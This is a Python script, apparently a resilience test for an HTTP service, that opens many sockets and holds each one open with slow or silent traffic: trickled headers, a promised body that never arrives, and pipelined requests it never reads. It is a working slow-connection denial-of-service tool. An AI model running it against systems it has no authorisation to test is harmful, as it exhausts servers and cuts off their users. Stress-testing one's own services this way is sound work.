"""Holds many connections in one slow way; says on standard output how many it holds.

slow.py silence|head|body|unread HOST PORT SOCKETS TOKEN
"""

from __future__ import annotations

import asyncio
import sys
from contextlib import suppress

DRIP = 0.5  # seconds between bytes


class Siege:
    """All the connections."""

    def __init__(self, way: str, host: str, port: int, token: str) -> None:
        self.way = way
        self.host = host
        self.port = port
        self.auth = f"authorization: Bearer {token}\r\n".encode()
        self.held = 0

    async def hold(self) -> None:
        """One connection, again and again."""
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(self.host, self.port)
                self.held += 1
                try:
                    await self.drag(reader, writer)
                finally:
                    self.held -= 1
                    writer.close()
            await asyncio.sleep(0.05)

    async def drag(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Be slow until the other end has had enough."""
        if self.way == "silence":
            await reader.read()
        elif self.way == "unread":
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            request = b"GET /metrics HTTP/1.1\r\nhost: x\r\n" + self.auth + b"\r\n"
            while not writer.is_closing():
                writer.write(request * 2)
                await writer.drain()
                await asyncio.sleep(DRIP)
        else:
            head = b"POST /v1/alarms HTTP/1.1\r\nhost: x\r\nx: "
            if self.way == "body":
                head = (
                    b"POST /v1/alarms HTTP/1.1\r\nhost: x\r\n"
                    + self.auth
                    + b"content-length: 10000\r\n\r\n"
                )
            writer.write(head)
            ended = asyncio.ensure_future(reader.read())
            while not ended.done():
                writer.write(b" ")
                await asyncio.wait([ended], timeout=DRIP)
            ended.result()

    async def run(self, sockets: int) -> None:
        """Hold so many, until killed."""
        tasks = [asyncio.create_task(self.hold()) for _ in range(sockets)]
        while not any(task.done() for task in tasks):
            print(self.held, flush=True)
            await asyncio.sleep(0.1)
        await asyncio.gather(*tasks)


if __name__ == "__main__":
    way, host, port, sockets, token = sys.argv[1:]
    asyncio.run(Siege(way, host, int(port), token).run(int(sockets)))
